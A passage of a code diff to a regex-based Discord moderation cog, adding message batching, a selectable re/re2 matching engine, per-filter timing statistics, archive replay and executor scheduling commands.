@@ -1362,14 +3139,18 @@ class ReCensor:
             return '\n'.join(lines)
 
         def format_params(obj):
-            order = ['Mode', 'ASCIIfy', 'Privilege exempt', 'Override', 'Position',
-                     'Attachment Header', 'Multi-message', 'Multi-message join']
+            order = ['Auto-disabled', 'Mode', 'ASCIIfy', 'Privilege exempt', 'Override', 'Position',
+                     'Attachment Header', 'Multi-message', 'Multi-message join', 'Engine', 'Prefilter',
+                     'Batch window']
 
             params = {
                 'Priv. exempt' : ('yes' if obj.priv_exempt else 'no'),
                 'ASCIIfy'      : ('yes' if obj.asciify else 'no'),
             }
 
+            if type(obj) is ServerConfig and obj.batch_window:
+                params['Batch window'] = '%i ms' % obj.batch_window
+
             if type(obj) is Filter:
                 params.update({
                     'Enabled'           : ('yes' if obj.enabled else 'no'),
@@ -1378,9 +3159,13 @@ class ReCensor:
                     'Multi-message'     : ('yes' if obj.multi_msg else 'no'),
                     'Flags'             : obj.flags or '(none)',
                     'Position'          : obj.position.value,
-                    'Attachment Header' : ('yes' if obj.attachment_header else 'no')
+                    'Attachment Header' : ('yes' if obj.attachment_header else 'no'),
+                    'Engine'            : obj.engine
                 })
 
+                if obj.engine_fallback:
+                    params['Engine'] += ' (using re: %s)' % obj.engine_fallback
+
                 if obj.multi_msg:
                     if obj.multi_msg_join:
                         join = obj.multi_msg_join.encode('unicode_escape').decode()
@@ -1391,6 +3176,18 @@ class ReCensor:
                     if obj.multi_msg_group:
                         params['Multi-message'] += ', group #%i' % obj.multi_msg_group
 
+                if obj.disabled_reason:
+                    params['Auto-disabled'] = obj.disabled_reason
+
+                if obj.mode or obj.multi_msg:
+                    pass
+                elif obj.literals:
+                    checked = obj.prefilter_hits + obj.prefilter_misses
+                    params['Prefilter'] = '%i literal(s), skipped %i of %i checks' % (len(obj.literals),
+                                                                                     obj.prefilter_misses, checked)
+                else:
+                    params['Prefilter'] = 'none (no required literal)'
+
                 if obj.priv_exempt is None:
                     params['Privilege exempt'] = 'inherited (%s)' % ('yes' if obj.parent.priv_exempt else 'no')
 
@@ -1418,7 +3215,7 @@ class ReCensor:
                 title = 'Filter: ' + item.name
                 pattern_name = 'Pattern'
 
-                if not item.predicate:
+                if item.pattern_error:
                     pattern_name += ' (INVALID!)'
 
                 description += ('\n\n%s:\n' % pattern_name) + box(item.pattern)
@@ -1467,7 +3264,7 @@ class ReCensor:
             await self.bot.say(name_check)
             return
         elif not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
 
         if pattern:
             try:
@@ -1496,7 +3293,7 @@ class ReCensor:
             await self.bot.say(error(', '.join((x if type(x) is str else repr(x)) for x in e.args)))
             return
 
-        self.save()
+        self.save(server.id)
         await self.bot.say(info('Filter created%s. Configure it with `%srecensor %s [setting] [options]`'
                                 % (desc, ctx.prefix, name)))
 
@@ -1521,7 +3318,7 @@ class ReCensor:
                 await self.bot.say(error(', '.join((x if type(x) is str else repr(x)) for x in e.args)))
                 return
 
-            self.save()
+            self.save(server.id)
             await self.bot.say(info("Filter deleted."))
 
     @recensor.command(pass_context=True, name='rename')
@@ -1549,7 +3346,7 @@ class ReCensor:
             await self.bot.say(error(', '.join((x if type(x) is str else repr(x)) for x in e.args)))
             return
 
-        self.save()
+        self.save(server.id)
         await self.bot.say(info("Successfully renamed '%s' to '%s'." % (name, new_name)))
 
     @recensor.command(pass_context=True, name='copy')
@@ -1579,7 +3376,7 @@ class ReCensor:
             await self.bot.say(error(', '.join((x if type(x) is str else repr(x)) for x in e.args)))
             return
 
-        self.save()
+        self.save(server.id)
         list_op = 'linked' if linked else 'duplicated'
         await self.bot.say(info("Created a copy of '%s' named '%s' with %s lists." % (name, new_name, list_op)))
 
@@ -1614,8 +3411,8 @@ class ReCensor:
             priv_exempt = await ctx.command.do_conversion(ctx, bool, priv_exempt)
 
         if not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
-            self.save()
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
 
         if priv_exempt is None:
             priv_exempt = settings.priv_exempt
@@ -1625,7 +3422,7 @@ class ReCensor:
         else:
             adj = 'now'
             settings.priv_exempt = priv_exempt
-            self.save()
+            self.save(server.id)
 
         desc = 'enabled' if priv_exempt else 'disabled'
         await self.bot.say('Server-wide privilege user exemption for is %s %s by default.' % (adj, desc))
@@ -1648,8 +3445,8 @@ class ReCensor:
             asciify = await ctx.command.do_conversion(ctx, bool, asciify)
 
         if not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
-            self.save()
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
 
         if asciify is None:
             asciify = settings.asciify
@@ -1659,7 +3456,8 @@ class ReCensor:
         else:
             adj = 'now'
             settings.asciify = asciify
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         msg = 'ASCIIfy is %s %s by default.' % (adj, 'enabled' if asciify else 'disabled')
 
@@ -1670,6 +3468,44 @@ class ReCensor:
 
         await self.bot.say(msg)
 
+    @recensor_server.command(pass_context=True, name='batch')
+    async def recensor_server_batch(self, ctx, milliseconds: int = None):
+        """
+        Show/set the batching window for new messages
+
+        If set, messages arriving within this many milliseconds of each other
+        are checked together in one go, and deleted with one bulk call per
+        channel. Batches are also sent off once they reach 64 messages.
+
+        This adds up to the window's length of delay before deletion, but
+        keeps the bot responsive during raids. Set to 0 to disable.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+
+        if milliseconds is not None and not 0 <= milliseconds <= 1000:
+            await self.bot.say(error('The batch window must be between 0 and 1000 milliseconds.'))
+            return
+
+        if not settings:
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
+
+        if milliseconds is None:
+            milliseconds = settings.batch_window
+            adj = 'currently'
+        elif settings.batch_window == milliseconds:
+            adj = 'already'
+        else:
+            adj = 'now'
+            settings.batch_window = milliseconds
+            self.save(server.id)
+
+        if milliseconds:
+            await self.bot.say('Message batching is %s enabled with a %i ms window.' % (adj, milliseconds))
+        else:
+            await self.bot.say('Message batching is %s disabled.' % adj)
+
     @recensor_server.command(pass_context=True, name='channels')
     async def recensor_server_channels(self, ctx, operation: str = None, *options):
         """
@@ -1679,8 +3515,8 @@ class ReCensor:
         settings = self.settings.get(server.id)
 
         if not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
-            self.save()
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
         elif not operation:
             ctx.view = StringView('SERVER')
             await self.recensor_list.invoke(ctx)
@@ -1696,8 +3532,8 @@ class ReCensor:
         settings = self.settings.get(server.id)
 
         if not settings:
-            self.settings[server.id] = settings = ServerConfig(self)
-            self.save()
+            self.settings[server.id] = settings = ServerConfig(self, server.id)
+            self.save(server.id)
         elif not operation:
             ctx.view = StringView('SERVER')
             await self.recensor_list.invoke(ctx)
@@ -1775,8 +3611,9 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.enabled = enabled
+            _filter.disabled_reason = None
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         desc = 'enabled' if enabled else 'disabled'
         await self.bot.say('%s is %s %s.' % (_filter.name, adj, desc))
@@ -1801,7 +3638,7 @@ class ReCensor:
             adj = 'now'
             _filter.enabled = False
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         await self.bot.say('%s is %s disabled.' % (_filter.name, adj))
 
@@ -1824,8 +3661,9 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.enabled = True
+            _filter.disabled_reason = None
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         await self.bot.say('%s is %s enabled.' % (_filter.name, adj))
 
@@ -1857,7 +3695,7 @@ class ReCensor:
             adj = 'now'
             _filter.override = override
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         desc = 'enabled' if override else 'disabled'
         await self.bot.say('Filter override for %s is %s %s.' % (_filter.name, adj, desc))
@@ -1893,7 +3731,7 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.priv_exempt = None if priv_exempt is inherit else priv_exempt
-            self.save()
+            self.save(server.id)
 
         if priv_exempt in (None, inherit):
             desc = 'inherit (%s)' % ('enabled' if _filter.parent.priv_exempt else 'disabled')
@@ -1937,7 +3775,8 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.asciify = None if asciify is inherit else asciify
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         if asciify in (None, inherit):
             desc = 'inherit (%s)' % ('enabled' if _filter.parent.asciify else 'disabled')
@@ -1984,7 +3823,8 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.multi_msg = multi_msg
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         desc = 'enabled' if multi_msg else 'disabled'
         msg = 'Multi-message search for %s is %s %s.' % (_filter.name, adj, desc)
@@ -2020,7 +3860,8 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.multi_msg_join = join
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         disp = '`"%s"`' % join.encode('unicode_escape').decode()
 
@@ -2066,7 +3907,8 @@ class ReCensor:
 
             adj = 'now'
             _filter.multi_msg_group = group
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         await self.bot.say('Multi-message group for %s is %s %i.' % (_filter.name, adj, group))
 
@@ -2102,7 +3944,7 @@ class ReCensor:
             adj = 'now'
             _filter.mode = mode
             settings.update_order()
-            self.save()
+            self.save(server.id)
 
         desc = 'DO' if mode else 'do NOT'
         await self.bot.say('%s is %s set to only allow messages that %s match its pattern.'
@@ -2143,7 +3985,8 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.position = position
-            self.save()
+            _filter.rebuild_predicate()
+            self.save(server.id)
 
         if position is POSITION.START:
             desc = 'only at the beginning of the message'
@@ -2195,7 +4038,7 @@ class ReCensor:
             adj = 'now'
             _filter.flags = flags
             _filter.rebuild_predicate()
-            self.save()
+            self.save(server.id)
 
         if flags:
             desc = ':\n' + '\n'.join('`%c` - %s' % (k, FLAGS_DESC[k]) for k in flags)
@@ -2251,7 +4094,7 @@ class ReCensor:
 
             _filter.pattern = pattern
             _filter.rebuild_predicate()
-            self.save()
+            self.save(server.id)
 
         await self.bot.say('Pattern for %s %s' % (_filter.name, desc))
 
@@ -2286,13 +4129,58 @@ class ReCensor:
         else:
             adj = 'now'
             _filter.attachment_header = attachment_header
-            self.save()
+            settings.invalidate()
+            self.save(server.id)
 
         desc = 'enabled' if attachment_header else 'disabled'
         msg = 'Attachment filename headers for %s are %s %s.' % (_filter.name, adj, desc)
 
         await self.bot.say(msg)
 
+    @recensor_set.command(pass_context=True, name='engine')
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_set_engine(self, ctx, filter_name: str, engine: str = None):
+        """
+        Show/set the regex engine a filter matches with
+
+        re is Python's own engine and supports everything. re2 runs in linear
+        time, so no pattern can hang on a crafted message, but it lacks
+        lookarounds, backreferences and the A, L and X flags, and its \\w, \\d
+        and \\b only match ASCII. Filters that re2 can't handle (or if it isn't
+        installed) keep using re.
+
+        engine must be re, re2, or left blank to show the current setting
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        name = filter_name.lower()
+        _filter = settings and settings.get_filter(name)
+
+        if engine is not None and engine.lower() not in ENGINES:
+            return await self.bot.send_cmd_help(ctx)
+
+        if not _filter:
+            await self.bot.say(warning('There is no filter named "%s" in this server.' % name))
+            return
+        elif engine is None:
+            engine = _filter.engine
+            adj = 'currently'
+        elif _filter.engine == engine.lower():
+            engine = _filter.engine
+            adj = 'already'
+        else:
+            adj = 'now'
+            _filter.engine = engine = engine.lower()
+            _filter.rebuild_predicate()
+            self.save(server.id)
+
+        msg = 'The engine for %s is %s %s.' % (_filter.name, adj, engine)
+
+        if _filter.engine_fallback:
+            msg += '\n' + warning('It will match with re instead, because %s.' % _filter.engine_fallback)
+
+        await self.bot.say(msg)
+
     @recensor_set.command(pass_context=True, name='channels')
     @checks.mod_or_permissions(manage_messages=True)
     async def recensor_set_channels(self, ctx, filter_name: str, operation: str = None, *options):
@@ -2380,10 +4268,18 @@ class ReCensor:
             content = preprocess_msg(_filter, msg)
 
             if _filter.asciify or (_filter.asciify is None and settings.asciify):
-                content = asciify_string(content)
+                content = asciify_cached(content, msg.id)
 
-            match_dict = await self.bot.loop.run_in_executor(self.executor, _filter.predicate, content)
+            filter_set = settings.filter_set
+            job = (filter_set.spec_id(_filter.spec()), content, False)
+            match_dict = (await self.run_checks(server.id, filter_set, [job]) or [{}])[0]
             match = match_dict.get('match', False)
+
+            if timed_out(match_dict):
+                await self.bot.say(warning('Matching took longer than the %gs limit, so the filter would treat it as '
+                                           'no match and be disabled automatically.' % MATCH_TIME_LIMIT))
+                continue
+
             wl_msg = 'Your message will **not** be deleted because it matched and the filter is in whitelist mode.'
             bl_msg = 'Your message **will** be deleted because it matched and the filter is in blacklist mode.'
             nm_msg = "Your message will **not** be deleted because it didn't match and the filter is in blacklist mode."
@@ -2429,6 +4325,7 @@ class ReCensor:
 
         if not settings:
             await self.bot.say(warning('No settings in this server.'))
+            return
 
         if channel is None:
             channel = ctx.message.channel
@@ -2439,8 +4336,10 @@ class ReCensor:
             await self.bot.say(error('Retrieving the message failed.'))
             return
 
-        lines = []
-        results, action = await settings.debug_message(message)
+        t0 = time.perf_counter()
+        results, action, generation = await settings.debug_message(message)
+        elapsed = time.perf_counter() - t0
+        lines = ['Generation %i, checked in one executor call in %.1f ms\n' % (generation, elapsed * 1000)]
 
         for t in results:
             lines.append(' | '.join(map(str, t)))
@@ -2453,6 +4352,266 @@ class ReCensor:
         msg = '\n'.join(lines)
         await self.bot.say(box(msg))
 
+    @recensor.group(pass_context=True, name='stats', invoke_without_command=True)
+    @checks.mod_or_permissions(manage_messages=True)
+    async def recensor_stats(self, ctx, limit: int = 15):
+        """
+        Shows the filters that take the most time to check, most expensive first
+
+        Latencies are per check, measured in the worker. The share column is
+        each filter's part of the total time spent on this server's filters.
+        Filters checked together as one combined pattern split its time.
+        """
+        if limit < 1:
+            await self.bot.say(error('The limit must be at least 1.'))
+            return
+
+        settings = self.settings.get(ctx.message.server.id)
+        filters = [f for f in (settings.filters.values() if settings else ()) if f.stats.calls]
+
+        if not filters:
+            await self.bot.say(info('No filter stats have been recorded in this server yet.'))
+            return
+
+        filters.sort(key=lambda f: f.stats.total, reverse=True)
+        grand_total = sum(f.stats.total for f in filters) or 1
+        width = max([6, *(len(f.name) for f in filters[:limit])])
+
+        lines = ['%-*s %9s %8s %8s %8s %8s %6s' % (width, 'Filter', 'Calls', 'Matches', 'p50 ms', 'p99 ms', 'max ms',
+                                                   'Share')]
+
+        for f in filters[:limit]:
+            st = f.stats
+            lines.append('%-*s %9i %8i %8.3f %8.3f %8.3f %5.1f%%' % (
+                width, f.name, st.calls, st.matches, st.percentile(0.5) * 1000, st.percentile(0.99) * 1000,
+                st.max * 1000, 100 * st.total / grand_total
+            ))
+
+        if len(filters) > limit:
+            lines.append('(%i more)' % (len(filters) - limit))
+
+        edits = settings.edit_stats
+
+        if edits['received']:
+            skipped = edits['received'] - edits['evaluated']
+            lines.append('\nEdits: %i received, %i checked, %.1f%% skipped (%i unchanged, %i coalesced)' % (
+                edits['received'], edits['evaluated'], 100 * skipped / edits['received'], edits['unchanged'],
+                edits['coalesced']))
+
+        for page in pagify('\n'.join(lines), shorten_by=16):
+            await self.bot.say(box(page))
+
+    @recensor_stats.command(pass_context=True, name='reset')
+    async def recensor_stats_reset(self, ctx, filter_name: str = None):
+        """
+        Clears the stats of one or all filters in this server
+        """
+        settings = self.settings.get(ctx.message.server.id)
+        name = filter_name and filter_name.lower()
+
+        if name is None:
+            targets = list(settings.filters.values()) if settings else []
+        elif settings and settings.get_filter(name):
+            targets = [settings.get_filter(name)]
+        else:
+            await self.bot.say(warning('There is no filter named "%s" in this server.' % name))
+            return
+
+        for f in targets:
+            f.stats = FilterStats()
+
+        self.save_stats()
+        await self.bot.say('Stats cleared for %s.' % ('all filters' if name is None else name))
+
+    @recensor.command(pass_context=True, name='replay')
+    @checks.is_owner()
+    async def recensor_replay(self, ctx, filter_name: str, source: str, limit: int = None):
+        """
+        Dry-runs a filter (or all) against archived messages
+
+        Source is a path on the bot's host: an activitylog directory or .log file,
+        or a .jsonl file with one {"content": ..., "deleted": ...} object per line.
+        Nothing is deleted. Channel, role and privilege settings are ignored, since
+        archives don't record them.
+        """
+        server = ctx.message.server
+        settings = self.settings.get(server.id)
+        name = filter_name.lower()
+
+        if not settings:
+            await self.bot.say(warning('No settings in this server.'))
+            return
+
+        data = settings.to_json()
+
+        if name != 'all':
+            if not settings.get_filter(name):
+                await self.bot.say(warning('There is no filter named "%s" in this server.' % name))
+                return
+
+            filter_data = {k: v for k, v in data['filters'][name].items() if not k.endswith('_link')}
+            filter_data.update(enabled=True, disabled_reason=None)
+            data['filters'] = {name: filter_data}
+
+        if not os.path.exists(source):
+            await self.bot.say(error('"%s" does not exist.' % source))
+            return
+
+        config = ServerConfig(self, server.id, **data)
+
+        if not config.order:
+            await self.bot.say(warning('There are no enabled filters to replay.'))
+            return
+
+        await self.bot.type()
+
+        try:
+            ret = await self.replay(config, ArchiveReader(source, limit))
+        except (OSError, ValueError) as e:
+            await self.bot.say(error('Reading the archive failed: %s' % e))
+            return
+
+        count = ret['messages'] or 1
+        lines = [
+            '%i messages in %.2fs (%.0f/s)' % (ret['messages'], ret['elapsed'], ret['messages'] / ret['elapsed']
+                                               if ret['elapsed'] else 0),
+            'Would delete:          %i (%.2f%%)' % (ret['hits'], 100 * ret['hits'] / count),
+            '  also deleted before: %i' % ret['hits_deleted'],
+            '  still in archive:    %i' % ret['hits_kept'],
+            'Deleted, not caught:   %i' % ret['missed_deleted']
+        ]
+
+        top = sorted((f for f in config.filters.values() if f.stats.matches), key=lambda f: f.stats.matches,
+                     reverse=True)
+
+        if top:
+            lines.append('\nTop filters:')
+            lines.extend('  %-20s %i' % (f.name, f.stats.matches) for f in top[:10])
+
+        if ret['samples']:
+            lines.append('\nSamples of hits still in the archive:')
+            lines.extend('  %s' % r.content[:100].replace('\n', ' ') for r in ret['samples'])
+
+        lines.append('\nChannel, role and privilege settings were ignored.')
+
+        for page in pagify('\n'.join(lines), shorten_by=16):
+            await self.bot.say(box(page))
+
+    @recensor.group(pass_context=True, name='scheduler', invoke_without_command=True)
+    @checks.is_owner()
+    async def recensor_scheduler(self, ctx):
+        """
+        Shows how each server's checks are queued for the executor
+
+        Servers take turns in the shared pool in proportion to their weight,
+        and no server may use more than half of its workers at once while
+        others are waiting; idle workers can be borrowed. A server
+        with a dedicated pool doesn't wait for the shared one at all.
+        """
+        scheduler = self.scheduler
+        lanes = sorted(scheduler.lanes.items(), key=lambda kv: kv[1].total_wait, reverse=True)
+
+        lines = ['Shared pool: %i workers, %i calls per server, %i in flight'
+                 % (scheduler.capacity, scheduler.quota, scheduler.in_flight), '']
+
+        lines.append('%-20s %-9s %6s %6s %6s %9s %8s %8s %6s' % ('Server', 'Pool', 'Weight', 'Active', 'Queued',
+                                                               'Calls', 'Avg ms', 'Max ms', 'Peak'))
+
+        for server_id, lane in lanes:
+            server = self.bot.get_server(server_id)
+            name = server.name if server else server_id
+            pool = 'own (%i)' % pool_size(self.pools[server_id]) if server_id in self.pools else 'shared'
+
+            lines.append('%-20.20s %-9s %6g %6i %6i %9i %8.2f %8.2f %6i' % (
+                name, pool, scheduler.weights.get(server_id, 1.0), lane.in_flight, len(lane.queue), lane.calls,
+                lane.total_wait * 1000 / (lane.calls or 1), lane.max_wait * 1000, lane.max_queue
+            ))
+
+        if not lanes:
+            lines.append('No checks have been run yet.')
+
+        for page in pagify('\n'.join(lines), shorten_by=16):
+            await self.bot.say(box(page))
+
+    @recensor_scheduler.command(pass_context=True, name='weight')
+    async def recensor_scheduler_weight(self, ctx, weight: float, server_id: str = None):
+        """
+        Sets a server's share of the shared pool relative to others (default 1)
+
+        Server defaults to the current one.
+        """
+        server_id = server_id or ctx.message.server.id
+
+        if not 0.1 <= weight <= 100:
+            await self.bot.say(error('Weight must be between 0.1 and 100.'))
+            return
+
+        weights = self.misc_data.setdefault('_scheduler', {}).setdefault('weights', {})
+
+        if weight == 1:
+            weights.pop(server_id, None)
+        else:
+            weights[server_id] = weight
+
+        self.configure_scheduler()
+        self.save()
+        await self.bot.say('Scheduler weight for %s is now %g.' % (server_id, weight))
+
+    @recensor_scheduler.command(pass_context=True, name='dedicate')
+    async def recensor_scheduler_dedicate(self, ctx, workers: int, server_id: str = None):
+        """
+        Gives a server its own pool of workers, or 0 to put it back in the shared one
+
+        Server defaults to the current one. Each worker is a separate process.
+        """
+        server_id = server_id or ctx.message.server.id
+
+        if not 0 <= workers <= 16:
+            await self.bot.say(error('Workers must be between 0 and 16.'))
+            return
+
+        dedicated = self.misc_data.setdefault('_scheduler', {}).setdefault('dedicated', {})
+
+        if workers:
+            dedicated[server_id] = workers
+        else:
+            dedicated.pop(server_id, None)
+
+        self.configure_scheduler()
+        self.save()
+
+        if workers:
+            await self.bot.say('%s now has %i dedicated worker(s).' % (server_id, workers))
+        else:
+            await self.bot.say('%s now uses the shared pool.' % server_id)
+
+    @recensor.command(pass_context=True, name='memory')
+    @checks.is_owner()
+    async def recensor_memory(self, ctx):
+        """
+        Shows how much the message history and other caches are holding, and how long the cog took to load
+
+        Sizes are estimates of the strings and records held, not of the whole process.
+        """
+        history = self._message_cache.stats()
+        buffers = [b for settings in self.settings.values() for b in settings._buffers.values()]
+
+        lines = [
+            'Message history: %i records for %i channel/author pairs' % (history['records'], history['keys']),
+            '  %.1f of %.1f MiB, %i pairs dropped over budget, %i records expired' % (
+                history['bytes'] / 2 ** 20, history['budget'] / 2 ** 20, history['evicted'], history['expired']),
+            'Joined buffers: %i, %.1f MiB of content' % (
+                len(buffers), sum(sys.getsizeof(b.content) for b in buffers) / 2 ** 20),
+            'Asciify cache: %i of %i entries' % (len(_asciify_cache), ASCIIFY_CACHE_SIZE),
+            'Pattern cache: %i of %i entries, %i hits, %i misses' % (
+                len(self.pattern_cache.entries), PATTERN_CACHE_SIZE, self.pattern_cache.hits,
+                self.pattern_cache.misses),
+            'Cog load: %(filters)i filters for %(servers)i servers in %(seconds).3fs, '
+            '%(cached)i patterns from cache and %(analyzed)i analyzed' % self.load_report
+        ]
+
+        await self.bot.say(box('\n'.join(lines)))
+
     @recensor.command(pass_context=True, name='regex101', aliases=['101'], rest_is_raw=True)
     @checks.mod_or_permissions(manage_messages=True)
     async def recensor_regex101(self, ctx, filter_name: str = None, *, test_message: str = None):
@@ -2581,7 +4740,10 @@ class ReCensor:
             await self._list_command_show_help(ctx, parent, _list, operation=operation, msg=error(fail_msg))
             return
 
-        return await func(ctx, parent, _list, *args)
+        try:
+            return await func(ctx, parent, _list, *args)
+        finally:
+            (parent if isinstance(parent, ServerConfig) else parent.parent).invalidate_meta()
 
     async def _list_command_show_help(self, ctx, parent, _list: FilterList, *, operation: Optional[str] = None,
                                       msg: Optional[str] = None, show_all=False, show_fullhelp=False):
@@ -2671,7 +4833,7 @@ class ReCensor:
                 return
 
             _list.enabled = enabled
-            self.save()
+            self.save(ctx.message.server.id)
 
         await self.bot.say('List is %s %s.' % (adj, 'enabled' if enabled else 'disabled'))
 
@@ -2705,7 +4867,7 @@ class ReCensor:
                 return
 
             _list.mode = mode
-            self.save()
+            self.save(ctx.message.server.id)
 
         await self.bot.say('Mode is %s %s.' % (adj, 'whitelist' if mode else 'blacklist'))
 
@@ -2729,7 +4891,7 @@ class ReCensor:
                 return
 
             _list.overlay = overlay
-            self.save()
+            self.save(ctx.message.server.id)
 
         await self.bot.say('Overlay mode is %s %s.' % (adj, 'enabled' if overlay else 'disabled (standalone)'))
 
@@ -2756,7 +4918,7 @@ class ReCensor:
                                    box('{0.__class__.__name__}: '.format(e) +
                                        ', '.join((x if type(x) is str else repr(x)) for x in e.args)))
 
-            self.save()
+            self.save(ctx.message.server.id)
             await self.bot.say("List linked.")
 
     async def _list_command_unlink(self, ctx, parent, _list):
@@ -2775,7 +4937,7 @@ class ReCensor:
                                    box('{0.__class__.__name__}: '.format(e) +
                                        ', '.join((x if type(x) is str else repr(x)) for x in e.args)))
 
-            self.save()
+            self.save(ctx.message.server.id)
             await self.bot.say("List unlinked and replaced with a copy of the former link target.")
 
     async def _list_command_add(self, ctx, parent, _list, *items: ItemTypeReference):
@@ -2805,7 +4967,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('Added %i item(s).%s' % (num_added, extra))
 
     async def _list_command_remove(self, ctx, parent, _list, *items: ItemTypeReference):
@@ -2827,7 +4989,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('Removed %i item(s).' % num_removed)
 
     async def _list_command_cleanup(self, ctx, parent, _list):
@@ -2851,7 +5013,7 @@ class ReCensor:
 
             if to_remove:
                 _list.items -= to_remove
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('Removed %i references to deleted items.' % len(to_remove))
             else:
                 await self.bot.say('Nothing to remove.')
@@ -2888,7 +5050,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, new_id_list):
                 _list.items.clear()
                 _list.items.update(new_id_list)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List inverted.')
 
     async def _list_command_clear(self, ctx, parent, _list):
@@ -2905,7 +5067,7 @@ class ReCensor:
                 return
             elif await self.confirm_thing(ctx, thing="clear this list?", require_yn=True):
                 _list.items.clear()
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List cleared.')
 
     async def _list_command_replace(self, ctx, parent, _list, other_filter: FilterBase):
@@ -2925,7 +5087,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, other_list.items):
                 _list.items.clear()
                 _list.items.update(other_list.items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_union(self, ctx, parent, _list, other_filter: FilterBase):
@@ -2947,7 +5109,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_difference(self, ctx, parent, _list, other_filter: FilterBase):
@@ -2969,7 +5131,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_intersect(self, ctx, parent, _list, other_filter: FilterBase):
@@ -2991,7 +5153,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_symdiff(self, ctx, parent, _list, other_filter: FilterBase):
@@ -3013,7 +5175,7 @@ class ReCensor:
             elif await self._list_command_confirm_diff(ctx, _list, updated_items):
                 _list.items.clear()
                 _list.items.update(updated_items)
-                self.save()
+                self.save(ctx.message.server.id)
                 await self.bot.say('List updated.')
 
     async def _list_command_confirm_diff(self, ctx, _list, updated_items: set, *, title: str = "Updated list:"):
@@ -3118,7 +5280,7 @@ class ReCensor:
                 return False
 
     def is_mod_or_superior(self, obj):  # Copied from red core mod.py
-        if not isinstance(obj, (Message, discord.Member, discord.Role)):
+        if not isinstance(obj, (Message, HistoryRecord, discord.Member, discord.Role)):
             raise TypeError('Only messages, members or roles may be passed')
 
         server = obj.server
@@ -3127,7 +5289,7 @@ class ReCensor:
 
         if isinstance(obj, discord.Role):
             return obj.name in [admin_role, mod_role]
-        elif isinstance(obj, Message):
+        elif isinstance(obj, (Message, HistoryRecord)):
             user = obj.author
         elif isinstance(obj, discord.Member):
             user = obj
@@ -3143,6 +5305,312 @@ class ReCensor:
 
         return False
 
+    # Executor
+
+    async def run_checks(self, server_id: str, filter_set: 'FilterSet', jobs: Sequence[Tuple[int, str, bool]],
+                         **kwargs) -> List[dict]:
+        """
+        Runs (spec id, content, stop_on_match) jobs from filter_set in the executor
+        """
+        return (await self.run_check_batches(server_id, filter_set, [jobs], **kwargs))[0]
+
+    async def run_check_batches(self, server_id: str, filter_set: 'FilterSet',
+                                job_lists: Sequence[Sequence[Tuple[int, str, bool]]], **kwargs) -> List[List[dict]]:
+        """
+        Runs several lists of jobs from filter_set in one executor call, returning a list of results for each
+
+        Only spec ids and content are sent; a worker that hasn't seen this generation yet asks for the specs and
+        the batch is sent again with them. Workers keep one generation per configured server, plus
+        WORKER_REGISTRY_SIZE for replays and generations that were just replaced.
+        """
+        key = (server_id, filter_set.generation)
+        kwargs['registry_size'] = len(self.settings) + WORKER_REGISTRY_SIZE
+        ret = await self.run_in_executor(server_id, partial(check_registered, key, job_lists, **kwargs), job_lists)
+
+        if ret is None:
+            specs = {job[0]: filter_set.specs[job[0]] for jobs in job_lists for job in jobs}
+            task = partial(check_registered, key, job_lists, specs, **kwargs)
+            ret = await self.run_in_executor(server_id, task, job_lists)
+
+        return ret
+
+    async def run_in_executor(self, server_id: str, task: Callable, job_lists: Sequence[Sequence]) \
+            -> Optional[List[List[dict]]]:
+        """
+        Runs a check task for a server in its executor with the per-predicate time limit, once the scheduler
+        admits it
+
+        If the call doesn't come back within EXECUTOR_HARD_TIMEOUT (e.g. the worker can't be interrupted), the pool
+        is killed and replaced, and every check is reported as timed out. Calls that were in the pool when it was
